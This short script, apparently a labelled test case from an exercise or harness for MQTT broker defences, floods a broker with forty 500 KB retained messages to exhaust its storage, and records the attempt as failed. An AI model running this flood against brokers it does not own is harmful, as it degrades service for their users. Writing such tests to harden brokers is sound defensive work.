// attack: stores retained messages without an end
// lesson: 1
// outcome: failed
// says: retained
import mqtt from 'mqtt';

const client = mqtt.connect(process.env['MQTT_URL'] ?? '', {
  clientId: process.env['MQTT_CLIENT_ID'] ?? '',
});
client.on('connect', () => {
  for (let i = 0; i < 40; i++)
    client.publish(`fill/${i}`, Buffer.alloc(500_000, 1), { retain: true });
});
client.on('error', () => undefined);
